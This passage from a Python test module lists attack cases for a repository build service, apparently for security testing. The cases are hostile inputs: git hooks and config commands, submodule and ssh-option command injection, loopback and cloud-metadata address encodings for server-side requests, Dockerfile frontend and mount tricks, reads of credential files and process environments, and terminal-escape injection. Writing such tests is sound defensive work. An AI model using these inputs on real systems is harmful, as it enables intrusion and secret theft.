"""The attack corpus as a table: what a stranger commits or queues, row by row of the threat table (docs/security.md), and what
must come of it. `kit/attacks.py` plays it.

Words in texts that are filled in: <key> of the case, <canary> a service on the loopback that nobody may ask, <stranger> one that
may be asked and must see no credentials, <hostile> a forge and registry of a stranger, <ran> a folder in which whoever runs
something leaves a file, <host> a file of the worker's machine, <victim> an image of another service, <shared> its cache."""

from __future__ import annotations

import json
from dataclasses import dataclass, field


@dataclass(frozen=True)
class Link:
    target: str


@dataclass(frozen=True)
class Program:
    text: str


@dataclass(frozen=True)
class Submodule:
    commit: str = "1" * 40


Files = dict[str, "str | bytes | Link | Program | Submodule"]


@dataclass(frozen=True)
class Case:
    row: str
    name: str
    files: Files = field(default_factory=dict)
    job: dict[str, object] = field(default_factory=dict)
    git: str = ""  # Another forge than the tests' own.
    queued: str = ""  # A queue element as it is; without `ends` nobody can be told of it.
    ends: str = "FAILED"
    says: str = ""  # In the customer's line.
    on: dict[str, tuple[str, str]] = field(default_factory=dict)  # `ends` and `says` on an engine that does it another way.
    prints: tuple[str, ...] = ()  # Lines of a step.
    hides: tuple[str, ...] = ()  # In nothing that the customer gets.
    message: str = "first"  # Of the commit.
    one: str = ""  # Why one engine is enough.
    by_policy: bool = False  # What only an engine with source policies refuses (docs/operations.md).

    def outcome(self, engine: str) -> tuple[str, str]:
        return self.on.get(engine, (self.ends, self.says))

    @property
    def meets_hostile(self) -> bool:
        """Whether it is nothing before the hostile server was asked."""
        return any(word in text for word in ("<hostile>", "<registry>") for text in (self.git, *self.files.values()) if isinstance(text, str))

    def __str__(self) -> str:
        return f"{self.row}-{self.name.replace(' ', '-')}"


BUILDABLE: Files = {"Dockerfile": "FROM busybox\nRUN echo built <key>\n"}
WORKERS_GIT = "git is the worker's own"
REFUSED_FIRST = "refused before an engine is asked"
WORKERS_FILES = "the worker itself reads it"
WORKERS_LOG = "the worker makes rows of any output in the same way"
POLICY = "network policy"


def dockerfile(text: str | bytes, base: str = "FROM busybox\n") -> Files:
    return {"Dockerfile": base.encode() + text if isinstance(text, bytes) else base + text}


def t1() -> list[Case]:
    touch = "touch <ran>/<key>"
    config = f"[core]\n fsmonitor = {touch}\n hooksPath = hooks\n worktree = /\n[filter \"evil\"]\n smudge = {touch}\n process = {touch}\n" \
             f" required = true\n[diff \"evil\"]\n textconv = {touch}\n[alias]\n fetch = !{touch}\n[include]\n path = config\n"
    hook = Program(f"#!/bin/sh\n{touch}\n")
    hooks: Files = {f"{folder}/{name}": hook for folder in ("hooks", ".githooks", ".husky") for name in (
        "post-checkout", "post-merge", "reference-transaction", "fsmonitor-watchman")}

    def submodule(text: str, path: str = "sub") -> Files:
        return {**BUILDABLE, ".gitmodules": f'[submodule "x"]\n\tpath = {path}\n\t{text}\n', "sub": Submodule()}

    harmless = {"git filters and drivers": {".gitattributes": "* filter=evil diff=evil merge=evil\n", ".gitconfig": config},
                "hooks in folders of their names": {**hooks, ".gitconfig": config},
                "a bare repository inside": {**hooks, "config": config, "HEAD": "ref: refs/heads/main\n", "refs/heads/x": "1" * 40,
                                             "objects/pack/x": "", "inner/config": config, "inner/HEAD": "ref: refs/heads/x\n"},
                "configuration of git-lfs": {".gitattributes": "*.bin filter=lfs\n", ".lfsconfig":
                                             f"[lfs \"customtransfer.x\"]\n path = {touch}\n[lfs]\n standalonetransferagent = x\n"
                                             f"[lfs \"extension.x\"]\n clean = {touch}\n smudge = {touch}\n", "a.bin": "no pointer"}}
    commands = {"a submodule over ext": f"url = ext::sh -c {touch}% %S", "a submodule whose update is a command":
                f"url = ../inner.git\n\tupdate = !{touch}", "a submodule whose URL is an option": f"url = -u./{touch}",
                "a submodule over ssh with an option": f"url = ssh://-oProxyCommand={touch}/x",
                "a submodule of the worker's disk": "url = file://<ran>"}
    return [
        *[Case("T1", name, {**BUILDABLE, **files}, ends="BUILDED", one=WORKERS_GIT) for name, files in harmless.items()],
        *[Case("T1", name, submodule(text), one=WORKERS_GIT) for name, text in commands.items()],
        Case("T1", "a submodule of a path that ends in CR", submodule("url = ../inner.git", '"sub\r"'), ends="BUILDED", one=WORKERS_GIT),
        Case("T1", "a submodule whose name leads out", {**submodule("url = ../inner.git"), ".gitmodules":
             '[submodule "../../x"]\n\tpath = sub\n\turl = ../inner.git\n'}, one=WORKERS_GIT)]


def t2() -> list[Case]:
    cases = []
    for kind, texts in {
            "branch": ["--upload-pack=touch <ran>/<key>", "-cmark-<key>", "mark-<key>;touch <ran>/<key>", "$(touch <ran>/<key>)",
                       "`touch <ran>/<key>`", "mark-<key>\n--upload-pack=x", "a/../mark-<key>", "@{-1}", "main:refs/mark-<key>",
                       "^mark-<key>", "mark-<key>\0", "refs/heads/mark-<key>.lock"],
            "commitSha": ["HEAD --mark-<key>", "--output=<ran>/<key>", "$(touch <ran>/<key>)", "mark-<key>"],
            "repositoryName": ["--upload-pack=touch <ran>/<key>", "../../mark-<key>", "a/../../mark-<key>", "mark-<key>%0ab", "mark-<key>?x",
                               "mark-<key>#x", "mark-<key>@host/x", "/<host>", "mark-<key>\\x", "a//mark-<key>"]}.items():
        cases += [Case("T2", f"{kind} {number}", BUILDABLE, {kind: text}, one=REFUSED_FIRST, says="is not")
                  for number, text in enumerate(texts, 1)]
    provider = {"type": "CUSTOM", "url": "<git>", "password": "x"}
    return [*cases,
            Case("T2", "a user name that ends", BUILDABLE, {"gitProvider": {**provider, "username": "mark-<key>:x"}}, one=REFUSED_FIRST, says="colon"),
            Case("T2", "a user name with a line of a header", BUILDABLE, {"gitProvider": {**provider, "username": "u\r\nX-Mark: mark-<key>"}},
                 one=REFUSED_FIRST),
            Case("T2", "a provider that is a command", BUILDABLE, {"gitProvider": {**provider, "url": "https://h.test/$(touch <ran>/<key>)"}},
                 one=REFUSED_FIRST, says="not a valid address"),
            *[Case("T2", f"a runtime file {number}", BUILDABLE, {"runtimeFilePath": text}, one=REFUSED_FIRST)
              for number, text in enumerate(["--file=<host>", "<host>", "../../../../../../../../<host>", "x/../../<host>", "Dockerfile\0mark-<key>",
                                             "Dockerfile\nmark-<key>"], 1)]]


LOOPBACKS = ["127.0.0.1:<port>", "127.1:<port>", "2130706433:<port>", "0x7f000001:<port>", "0x7f.1:<port>", "0177.0.0.1:<port>",
             "017700000001:<port>", "127.0.0.1.:<port>", "0.0.0.0:<port>", "0:<port>", "[::1]:<port>", "[::]:<port>",
             "[::ffff:127.0.0.1]:<port>", "[::ffff:7f00:1]:<port>", "[::127.0.0.1]:<port>", "[64:ff9b::7f00:1]:<port>",
             "[64:ff9b:1::7f00:1]:<port>", "[2002:7f00:1::]:<port>", "[2001:0:7f00:1::1]:<port>", "localhost.:<port>", "ip6-localhost:<port>",
             "169.254.169.254", "[fd00:ec2::254]", "10.0.0.1", "192.168.0.1", "[fe80::1]", "224.0.0.1"]
BROKEN = ["127%2e0.0.1:<port>", "127.0.0.1%00.example.com:<port>", "127.0.0.1:<port>\\@example.com", "example.com@127.0.0.1:<port>",
          "\uff11\uff12\uff17.0.0.1:<port>", "\u2460\u2461\u2466.0.0.1:<port>", "localhost\u3002:<port>", "127.0.0.1:<port>\t",
          "127.0.0.1:0<port>x", "[::1%25lo]:<port>", "[127.0.0.1]:<port>x", "127.0.0.1 :<port>", "127.0.0.1:<port>#@example.com",
          "127.0.0.1:<port>?@example.com"]
SCHEMES = ["file://<host>", "ext::sh -c touch% <ran>/<key>", "ssh://-oProxyCommand=touch/x", "git://127.0.0.1:<port>", "ftp://127.0.0.1:<port>",
           "fd::17/x", "http:/127.0.0.1:<port>", "//127.0.0.1:<port>", "gopher://127.0.0.1:<port>", "HTTP+unix://x"]
ATTRIBUTES = "*.bin filter=lfs diff=lfs merge=lfs -text\n"


def large_file(url: str) -> Files:
    return {**BUILDABLE, ".gitattributes": ATTRIBUTES, "a.bin": "<pointer>", ".lfsconfig": f"[lfs]\n\turl = {url}\n"}


def submodule_at(url: str) -> Files:
    return {**BUILDABLE, ".gitmodules": f'[submodule "x"]\n\tpath = sub\n\turl = {url}\n', "sub": Submodule()}


def t3() -> list[Case]:
    return [
        *[Case("T3", f"git at {host.replace('<port>', 'PORT')}", git=f"http://{host}/<key>", says=POLICY, one=WORKERS_GIT) for host in LOOPBACKS],
        *[Case("T3", f"a host that is read twice {number}", git=f"http://{host}/<key>", says="git provider's URL", one=WORKERS_GIT)
          for number, host in enumerate(BROKEN, 1)],
        *[Case("T3", f"another protocol {number}", git=f"{url}/<key>", says="must begin with https://", one=WORKERS_GIT)
          for number, url in enumerate(SCHEMES, 1)],
        Case("T3", "a forge that sends on to the loopback", git="http://<hostile>/git/canary/<key>", one=WORKERS_GIT),
        Case("T3", "a forge that sends on for ever", git="http://<hostile>/git/loop/<key>", one=WORKERS_GIT),
        *[Case("T3", f"a submodule at {host.replace('<port>', 'PORT')}", submodule_at(f"http://{host}/<key>.git"), one=WORKERS_GIT)
          for host in ("127.0.0.1:<port>", "2130706433:<port>", "169.254.169.254")],
        *[Case("T3", f"large files at {host.replace('<port>', 'PORT')}", large_file(f"http://{host}/<key>"), one=WORKERS_GIT)
          for host in ("127.0.0.1:<port>", "[::ffff:127.0.0.1]:<port>", "2130706433:<port>", "169.254.169.254")],
        Case("T3", "large files that lie on the loopback", large_file("http://<hostile>/lfs/href-canary/<key>"), says=POLICY, one=WORKERS_GIT),
        Case("T3", "large files whose server sends on to the loopback", large_file("http://<hostile>/lfs/redirect-canary/<key>"), one=WORKERS_GIT)]


def t4() -> list[Case]:
    return [
        Case("T4", "a forge that sends on to a stranger", git="http://<hostile>/git/stranger/<key>/login", one=WORKERS_GIT),
        Case("T4", "a submodule at a stranger", submodule_at("http://<stranger>/login/<key>.git"), one=WORKERS_GIT),
        Case("T4", "large files at a stranger", large_file("http://<stranger>/login/<key>"), one=WORKERS_GIT),
        Case("T4", "large files that a stranger has", large_file("http://<hostile>/lfs/href-stranger/<key>"), one=WORKERS_GIT),
        Case("T4", "large files that are asked for anew at a stranger", large_file("http://<hostile>/lfs/redirect-stranger/<key>"), one=WORKERS_GIT)]


def t5() -> list[Case]:
    copied = "COPY . /app\nRUN echo found=$(cat /app/%s 2>/dev/null) <key>\n"

    def linked(name: str, ends: str = "FAILED", one: str = WORKERS_FILES, **more: str) -> Case:
        return Case("T5", f"a link in place of {name}", {"Dockerfile": "FROM busybox\n" + copied % name, ".dockerignore": "nothing\n", **more,
                    name: Link("<host>")}, ends=ends, one=one, prints=("found= <key>",) if ends == "BUILDED" else ())

    return [
        Case("T5", "a link in place of the env file", {**dockerfile(copied % ".env"), ".dockerignore": "nothing\n", ".env": Link("<host>")},
             {"environmentVariables": [{"key": "A", "value": "b"}]}, ends="BUILDED", prints=("found=A=b <key>",)),
        linked("Dockerfile"), linked(".dockerignore", "BUILDED"), linked("project.toml", "BUILDED"), linked(".gitattributes", "BUILDED"),
        linked(".gitmodules"), linked(".lfsconfig", "BUILDED"), linked("deployra.toml"),
        Case("T5", "a context out of the repository", {**BUILDABLE, "deployra.toml": "[build]\ncontext = 'x/../..'\n"},
             says='deployra.toml:2: "context" is', one=WORKERS_FILES),
        Case("T5", "a context behind a link", {**BUILDABLE, "c": Link("<hostfolder>"), "deployra.toml": "[build]\ncontext = 'c'\n"},
             says="is no folder of the repository", one=WORKERS_FILES),
        Case("T5", "a Dockerfile of a folder that is a link", {**BUILDABLE, "x": Link("<hostfolder>")}, {"runtimeFilePath": "x/host"},
             one=WORKERS_FILES),
        Case("T5", "links to files of the host", {**dockerfile("COPY . /app\nRUN echo found=$(cat /app/a /app/b /app/c/host 2>/dev/null) <key>\n"),
             "a": Link("<host>"), "b": Link("../../../../../../../../..<host>"), "c": Link("<hostfolder>")}, ends="BUILDED",
             prints=("found= <key>",)),
        *[Case("T5", f"copying {name}", {**dockerfile(f"COPY {source} /x\nRUN echo found=$(cat /x /x/* 2>/dev/null) <key>\n"), "a": Link("<host>"),
               "c": Link("<hostfolder>")})
          for name, source in {"a link": "a", "through a link": "c/host", "upwards": "../../../../../../..<host>", "from the root": "<host>"}.items()]]


def t6() -> list[Case]:
    deep, deeper = ("/".join(["d"] * count) for count in (150, 600))
    return [
        *[Case("T6", name, dockerfile(f"{line}\nRUN echo found=$(cat /x /x/* 2>/dev/null) <key>\n"), on=on)
          for name, line, on in [
              ("a file URL", "ADD file://<host> /x", {}),
              ("a mount of a folder above", "RUN --mount=type=bind,source=../../../..<hostfolder>,target=/m cat /m/host >/x", {}),
              ("a mount of the root", "RUN --mount=type=bind,source=<hostfolder>,target=/m cat /m/host >/x", {}),
              ("another context", "COPY --from=home <host> /x", {}),
              ("a local source", "COPY --from=local://context <host> /x", {})]],
        Case("T6", "links in a circle and folders without end", {**dockerfile("COPY . /app\nRUN echo seen $(cat /app/" + deep + "/leaf) <key>\n"),
             "loop": Link("loop"), "one": Link("two"), "two": Link("one"), "up": Link(".."), f"{deep}/leaf": "leaf"}, ends="BUILDED",
             prints=("seen leaf <key>",)),
        Case("T6", "folders of too many levels", {**BUILDABLE, f"{deeper}/leaf": ""}, says="nested too deeply", one=WORKERS_FILES),
        Case("T6", "names that a shell or an archive reads", {**dockerfile("COPY . /app\nRUN echo $(ls /app | wc -l) names <key>\n"),
             "-rf": "", "$(touch <ran>/<key>)": "", "a;b": "", "new\nline": "", "\\back": "", "*": "", "~": "", "@x": ""}, ends="BUILDED",
             prints=("8 names <key>",))]


FRONTEND = "127.0.0.1:<port>/<key>:1"


def t7() -> list[Case]:
    spellings: dict[str, str | bytes] = {
        "a comment": f"# syntax={FRONTEND}\n", "without a blank": f"#syntax={FRONTEND}\n", "in capitals": f"# SYNTAX = {FRONTEND}\n",
        "behind a form feed": f"#\fsyntax={FRONTEND}\n", "behind a vertical tab": f"#\vsyntax={FRONTEND}\n",
        "behind a wide blank": f"#\u3000syntax={FRONTEND}\n", "behind a next line": f"#\u0085syntax={FRONTEND}\n",
        "with CRLF": f"# syntax={FRONTEND}\r\n", "behind a byte order mark": f"\ufeff# syntax={FRONTEND}\n",
        "behind a blank at the line's begin": f" \t# syntax={FRONTEND}\n", "with slashes": f"// syntax={FRONTEND}\n",
        "behind an interpreter": f"#!/bin/sh\n# syntax={FRONTEND}\n", "behind escape": f"# escape=`\n# syntax={FRONTEND}\n",
        "behind check": f"# check=skip=all\n# syntax={FRONTEND}\n", "after a good one": f"# syntax=docker/dockerfile:1\n# syntax={FRONTEND}\n",
        "as JSON": f'{{"syntax": "{FRONTEND}"}}\n', "as JSON that is escaped": f'{{"\\u0073yntax": "{FRONTEND}"}}\n',
        "as JSON that is no UTF-8": b'{"a":"\xff","syntax": "127.0.0.1:<port>/<key>:1"}\n'}
    refusal = "is not allowed here; use none or one of docker/dockerfile, docker/dockerfile-upstream"
    cases = [Case("T7", f"a frontend {name}", {"Dockerfile": text + (b"FROM busybox\n" if isinstance(text, bytes) else "FROM busybox\n")},
                  says=refusal if "JSON" in name else f'"{FRONTEND}" {refusal}', one=REFUSED_FIRST) for name, text in spellings.items()]
    cases += [
        Case("T7", "a frontend in a variable of the job", BUILDABLE, {"environmentVariables": [{"key": "BUILDKIT_SYNTAX", "value": "127.0.0.1:<port>/t7:1"}]},
             ends="BUILDED", prints=("built <key>",)),
        Case("T7", "a frontend in args of deployra.toml", {**BUILDABLE, "deployra.toml": f"[build.args]\nBUILDKIT_SYNTAX = '{FRONTEND}'\n"},
             says="steers BuildKit itself", one=REFUSED_FIRST),
        Case("T7", "a frontend in an ARG", {"Dockerfile": f"ARG BUILDKIT_SYNTAX={FRONTEND}\nFROM busybox\nARG BUILDKIT_SYNTAX={FRONTEND}\n"
             "RUN echo built <key>\n"}, ends="BUILDED", prints=("built <key>",)),
        Case("T7", "a frontend in a runtime file behind a link", {"x/y": f"# syntax={FRONTEND}\nFROM busybox\n", "Dockerfile": Link("x/y")},
             says="is not allowed here", one=REFUSED_FIRST),
        Case("T7", "security insecure", dockerfile("RUN --security=insecure echo ran <key>\n"), hides=("ran <key>",),
             says="builds here have no privileges", on={"docker": ("FAILED", "")}),
        Case("T7", "network host", dockerfile("RUN --network=host wget -q -O - http://<canary>/<key>\n"),
             says="may not use the host's network"),
        Case("T7", "a device", dockerfile("RUN --device=vendor.com/device=all echo devices=$(ls /dev | grep -cE "
             "'^(sd|vd|nvme|loop|kvm|mem|kmsg|fuse)') <key>\n"), ends="", prints=("devices=0 <key>",)),
        Case("T7", "the Engine's socket", dockerfile("RUN ls /var/run/docker.sock /run/docker.sock 2>/dev/null | wc -l | sed 's/$/ sockets <key>/'\n"),
             ends="BUILDED", prints=("0 sockets <key>",)),
        Case("T7", "a work folder that is a descriptor", dockerfile("WORKDIR /proc/self/fd/8\nRUN cat ../../../../../..<host>\n")),
        Case("T7", "mounting and changing the kernel", dockerfile(
            "RUN (mount -t proc none /mnt; mount -o remount,rw /sys; echo x >/proc/sys/kernel/core_pattern; mknod /m b 8 0 && cat /m) "
            ">/dev/null 2>&1 && echo did <key> || echo did-not <key>\n"), ends="BUILDED", prints=("did-not <key>",))]
    for name, source in {"docker-image": "docker-image://<victim>", "docker-image+blob": "docker-image+blob://<victim>@sha256:" + "1" * 64,
                         "oci-layout": "oci-layout://x@sha256:" + "1" * 64, "local": "local://dockerfile"}.items():
        cases += [Case("T7", f"FROM of the kind {name}", dockerfile("", base=f"FROM {source}\n")),
                  Case("T7", f"a mount of the kind {name}", dockerfile(f"RUN --mount=type=bind,from={source},target=/v cat /v/secret\n"))]
    return cases


# Of which the engine itself has to refuse: the worker's look at the text does not see them.
FOR_POLICIES = ["127.0.0.1:<port>", "127.1:<port>", "2130706433:<port>", "0x7f.1:<port>", "0177.0.0.1:<port>", "127.0.0.1.:<port>", "[::1]:<port>",
                "[::ffff:127.0.0.1]:<port>", "[64:ff9b::7f00:1]:<port>", "LOCALHOST:<port>", "localhost.:<port>", "x@127.0.0.1:<port>",
                "169.254.169.254", "metadata.google.internal"]


TRIGGERS = ["ADD http://127.0.0.1:<port>/trigger /x", "COPY --from=127.0.0.1:<port>/trigger /x /x",
            "RUN --mount=type=bind,from=<victim>,target=/v cp /v/secret /x"]


def t8() -> list[Case]:
    cases = [Case("T8", f"ADD of {host.replace('<port>', 'PORT')}", dockerfile(f"ADD http://{host}/<key> /x/\nRUN cat /x/*\n"), says=POLICY,
                  one=REFUSED_FIRST) for host in LOOPBACKS if "64:ff9b:1" not in host]
    forms: dict[str, str | bytes] = {
        "in capitals": "ADD HTTP://LOCALHOST:<port>/<key> /x\n", "with a user": "ADD http://example.com@127.0.0.1:<port>/<key> /x\n",
        "of a git repository": "ADD http://127.0.0.1:<port>/<key>/app.git /x\n", "in JSON": 'ADD ["http://127.0.0.1:<port>/<key>", "/x"]\n',
        "in JSON that is escaped": 'ADD ["\\u0068ttp://127.0.0.1:<port>/<key>", "/x"]\n',
        "in quotes": 'ADD h"tt"p://127.0.0.1:<port>/<key> /x\n', "over two lines": "ADD ht\\\ntp://127.0.0.1:<port>/<key> /x\n",
        "with another escape": "ADD h\\ttp://127.0.0.1:<port>/<key> /x\n", "of full width": "ADD http://\uff11\uff12\uff17.0.0.1:<port>/<key> /x\n",
        "with a percent": "ADD http://127%2e0.0.1:<port>/<key> /x\n", "over ssh": "ADD git@127.0.0.1:<key>/app.git /x\n",
        "in JSON that goes on": 'ADD ["http://127.0.0.1:<port>/<key>", "/x"] and more\n',
        "in JSON that is no UTF-8": b'ADD ["http://127.0.0.1:<port>/<key>?\xff", "/x"]\n',
        "behind a wide blank": "\u00a0ADD http://127.0.0.1:<port>/<key> /x\n", "behind a next line": "\u0085ADD http://127.0.0.1:<port>/<key> /x\n",
        "behind a flag with a wide blank": "ADD --chown=0\u00a0http://127.0.0.1:<port>/<key> /x\n",
        "in JSON behind a wide blank": 'ADD \u2003["http://127.0.0.1:<port>/<key>", "/x"]\n'}
    cases += [Case("T8", f"ADD {name}", dockerfile(text), says=POLICY, one=REFUSED_FIRST) for name, text in forms.items()]
    cases += [Case("T8", f"ADD of a variable of {host.replace('<port>', 'PORT')}", dockerfile(f"ARG H={host}\nADD http://$H/<key> /x/\nRUN cat /x/*\n"),
                   says=POLICY, on={"docker": ("FAILED", "written out")}) for host in FOR_POLICIES]
    cases += [Case("T8", f"FROM a variable of {host.replace('<port>', 'PORT')}", dockerfile("", base=f"ARG H={host}\nFROM $H/<key>:1\n"))
              for host in FOR_POLICIES if "@" not in host and "[" not in host]
    images: dict[str, str | bytes] = {
        "FROM the loopback": "FROM 127.0.0.1:<port>/<key>:1\n", "FROM localhost": "FROM localhost:<port>/<key>:1\n",
        "FROM a decimal address": "FROM 2130706433:<port>/<key>:1\n", "FROM a host that ends in a dot": "FROM 127.0.0.1.:<port>/<key>:1\n",
        "FROM localhost in capitals": "FROM LOCALHOST:<port>/<key>:1\n", "FROM variables in pieces": "ARG A=127.0\nARG B=.0.1:<port>/<key>\nFROM ${A}${B}\n",
        "FROM a variable's default": "FROM ${NONE:-127.0.0.1:<port>/<key>}\n",
        "FROM a variable of a variable": "ARG A=127.0.0.1:<port>\nARG B=$A/<key>\nFROM $B\n",
        "FROM a variable whose value is cut": "ARG A=x127.0.0.1:<port>/<key>\nFROM ${A#x}\n",
        "FROM behind a byte order mark": "\ufeffFROM 127.0.0.1:<port>/<key>:1\n", "FROM behind a wide blank": "\u00a0FROM 127.0.0.1:<port>/<key>:1\n",
        "FROM behind a platform with a wide blank": "FROM --platform=linux/amd64\u00a0127.0.0.1:<port>/<key>:1\n",
        "FROM behind a platform in quotes": 'FROM --platform="linux/amd64 " 127.0.0.1:<port>/<key>:1\n',
        "COPY from the loopback": "FROM busybox\nCOPY --from=127.0.0.1:<port>/<key>:1 /a /a\n",
        "COPY from the loopback in quotes": 'FROM busybox\nCOPY "--from=127.0.0.1:<port>/<key>:1" /a /a\n',
        "COPY from a variable": "ARG A=127.0.0.1:<port>/<key>\nFROM busybox\nARG A\nCOPY --from=$A /a /a\n",
        "a mount from the loopback": "FROM busybox\nRUN --mount=type=bind,from=127.0.0.1:<port>/<key>:1,target=/v ls /v\n",
        "a mount from a variable": "ARG A=127.0.0.1:<port>/<key>\nFROM busybox\nARG A\nRUN --mount=type=bind,from=$A,target=/v ls /v\n",
        "a mount whose target reads as its source": "FROM busybox\nRUN --mount=target=/from=x,from=127.0.0.1:<port>/<key>:1 ls\n",
        "a mount with a blank in it": "FROM busybox\nRUN --mount=target=/a\\ b,from=127.0.0.1:<port>/<key>:1 ls\n",
        "a mount in quotes": 'FROM busybox\nRUN --mount=target="/a b",from=127.0.0.1:<port>/<key>:1 ls\n',
        "a trigger from the loopback": "FROM busybox AS one\nONBUILD COPY --from=127.0.0.1:<port>/<key>:1 /a /a\nFROM one\n"}
    cases += [Case("T8", f"a base image with the trigger {number}", {"Dockerfile": f"FROM <trigger:{number}>\nRUN cat /x* /x/*\n"}, by_policy=True,
                   says="another service" if "<victim>" in trigger else POLICY) for number, trigger in enumerate(TRIGGERS)]
    literal = {"FROM the loopback": "images of the registry 127.0.0.1 cannot be used here (network policy); use one with a public address"}
    return cases + [Case("T8", name, dockerfile(text, base=""), says=literal.get(name, "")) for name, text in images.items()]


# Secrets would be taken out of the log, were they there: what shows them is what they hash to.
HASHES = "env | sed 's/^[^=]*=//' | while IFS= read -r v; do printf %s \"$v\" | sha256sum; done"


def t9() -> list[Case]:
    return [
        Case("T9", "the environment of a step", dockerfile(f"ENV KNOWN=known-<key>\nRUN {HASHES}; cat /proc/1/environ | tr '\\0' '\\n' | "
             "sed 's/^[^=]*=//' | while IFS= read -r v; do printf %s \"$v\" | sha256sum; done; echo looked <key>\n"),
             ends="BUILDED", prints=("looked <key>", "<hash:known-<key>>  -")),
        Case("T9", "the logins of a step", dockerfile("RUN --mount=type=secret,id=cnb-login --mount=type=secret,id=API_KEY "
             "echo secrets=$(cat /run/secrets/* 2>/dev/null) <key>\n"), ends="BUILDED", prints=("secrets= <key>",)),
        Case("T9", "the agent of a step", dockerfile("RUN --mount=type=ssh,required echo agent <key>\n"), hides=("agent <key>\n",)),
        Case("T9", "logins on a step's disk", dockerfile("RUN echo files=$(cat /root/.docker/config.json /kaniko/.docker/config.json "
             "/root/.aws/credentials 2>/dev/null) <key>\n"), ends="BUILDED", prints=("files= <key>",))]


def t10() -> list[Case]:
    show = {**dockerfile("COPY .env /e\nRUN echo lines=$(wc -l </e) evil=$(grep -c ^EVIL= /e) <key>\n"), ".dockerignore": "nothing\n"}

    def variables(*pairs: tuple[object, object]) -> dict[str, object]:
        return {"environmentVariables": [{"key": key, "value": value} for key, value in pairs]}

    return [
        *[Case("T10", name, show, variables(("FIRST", "1"), pair), ends="BUILDED", one=WORKERS_FILES, prints=(f"lines={lines} evil=0 <key>",))
          for name, pair, lines in [
              ("a value with a line of its own", ("A", "x\nEVIL=1"), 2), ("a value that ends its quotes", ("A", "x'\nEVIL=1\n'\""), 2),
              ("a value with a carriage return", ("A", "x\rEVIL=1"), 2), ("a value with the lines of other systems", ("A", "x\u2028EVIL=1\u0085EVIL=1"), 2),
              ("a key with a line of its own", ("A\nEVIL", "1"), 1), ("a key with an equals sign", ("A=1\nEVIL", "1"), 1),
              ("a key of nothing", ("", "EVIL=1"), 1), ("a key with blanks", ("export EVIL", "1"), 1), ("a value that ends in an escape", ("A", "x\\"), 2)]],
        Case("T10", "variables that steer programs", show, variables(
            ("LD_PRELOAD", "/x.so"), ("PATH", "/nonexistent"), ("GIT_SSH_COMMAND", "touch <ran>/t10"), ("HTTP_PROXY", "http://<canary>"),
            ("https_proxy", "http://<canary>"), ("DOCKER_HOST", "tcp://<canary>"), ("GIT_CONFIG_COUNT", "1"), ("GIT_CONFIG_KEY_0", "core.fsmonitor"),
            ("GIT_CONFIG_VALUE_0", "touch <ran>/t10"), ("CNB_REGISTRY_AUTH", '{"x":"y"}'), ("AWS_ENDPOINT_URL_ECR", "http://<canary>")),
            ends="BUILDED", prints=("lines=11 evil=0 <key>",), one=WORKERS_GIT),
        Case("T10", "a value of a megabyte", BUILDABLE, variables(("A", "x" * 900_000)), says="longer than", one=REFUSED_FIRST),
        Case("T10", "two thousand variables", BUILDABLE, variables(*((f"A{n}", "x") for n in range(2_000))), says="more than", one=REFUSED_FIRST),
        Case("T10", "a value that is no text", BUILDABLE, variables(("A", {"$ne": 1})), says="must be a text", one=REFUSED_FIRST)]


CONTROLS = "\x1b]0;owned\x07\x1b[2J\u202e\x9b2J\u2066"


def t12() -> list[Case]:
    def printed(name: str, command: str, one: str = "") -> Case:
        return Case("T12", name, dockerfile(f"RUN {command}; echo after <key>\n"), ends="BUILDED", prints=("after <key>",), one=one)

    return [
        printed("terminal commands", r"printf 'be\033[2Jfo\033]0;owned\007re\033]52;c;b3duZWQ=\007 \033P1$r\033\\ \033[8mhidden\n'"),
        printed("a line that is overwritten", r"printf 'bad\rgood\n\b\b\b\177x\n'", WORKERS_LOG),
        printed("directions and hidden letters", r"printf 'a\342\200\256b\342\201\246c\357\273\277d\342\200\213e\n'"),
        printed("C1 and broken UTF-8", r"printf '\302\2332J \233 \377\376 \300\200 \355\240\200\n'", WORKERS_LOG),
        printed("a line of four megabytes", "head -c 4000000 /dev/zero | tr '\\0' x; echo", WORKERS_LOG),
        printed("a hundred thousand lines", "yes <key> | head -n 100000", WORKERS_LOG),
        printed("megabytes of nothing", "head -c 8000000 /dev/zero; echo", WORKERS_LOG),
        printed("words of the worker", r"printf '#1 DONE 0.0s\n::error::x\nDeployment failed\n{\"status\":\"BUILDED\"}\n'"),
        Case("T12", "controls in the name of a step", dockerfile(f"RUN echo '{CONTROLS}'; echo after <key>\n"), ends="BUILDED", prints=("after <key>",)),
        Case("T12", "controls in the name of a failing step", dockerfile(f"RUN : '{CONTROLS}'; exit 3\n"), says="exit code 3"),
        Case("T12", "controls in the subject of a commit", BUILDABLE, message=f"be{CONTROLS}gin\n\nmore", ends="BUILDED", prints=("built <key>",),
             one=WORKERS_GIT),
        Case("T12", "controls in a runtime file", BUILDABLE, {"runtimeFilePath": f"x{CONTROLS}y"}, one=REFUSED_FIRST),
        Case("T12", "controls in a file that is missing", dockerfile(f'COPY ["x{CONTROLS}y", "/x"]\n'), ends=""),
        Case("T12", "controls in a base image", dockerfile("", base=f"FROM bus{CONTROLS}ybox\n")),
        Case("T12", "controls in an instruction", dockerfile(f"BOG{CONTROLS}US x\n")),
        Case("T12", "controls in a submodule's address", submodule_at(f"http://h.test/{CONTROLS}.git"), one=WORKERS_GIT),
        Case("T12", "controls in a name of a file", {**BUILDABLE, f"x{CONTROLS}y": Link("<host>"), "project.toml": f"[x{CONTROLS}y"}, ends="BUILDED",
             prints=("built <key>",), one=WORKERS_FILES),
        Case("T12", "controls in the text of a failure", dockerfile("RUN printf '\\033[2J' '\u202e<key>' && exit 3\n"), says="exit code 3")]


def t13() -> list[Case]:
    deep = {"keys": "a." * 120_000 + "a=1", "headers": "[" + "a." * 120_000 + "a]", "tables": "x=" + "{a=" * 80_000,
            "quoted keys": '"a".' * 60_000 + "a=1", "keys in tables": "x={" + "a." * 120_000 + "a=1}"}
    cases = [Case("T13", f"a project.toml of deep {kind}", {"project.toml": text, "index.js": ""}, says="more than 64 levels of tables",
                  one=WORKERS_FILES) for kind, text in deep.items()]
    attributes = "# a line of no meaning\n" * 40_000
    return [*cases,
            Case("T13", "a deployra.toml of deep keys", {**BUILDABLE, "deployra.toml": "a." * 30_000 + "a=1"}, says="more than 64 levels of tables",
                 one=WORKERS_FILES),
            Case("T13", "four hundred large lists of attributes", {**BUILDABLE, **{f"d{n}/.gitattributes": attributes for n in range(400)}},
                 ends="BUILDED", one=WORKERS_GIT),
            Case("T13", "one file in three thousand places", {**BUILDABLE, **dict.fromkeys((f"d/{n}" for n in range(3_000)), bytes(1_000_000))},
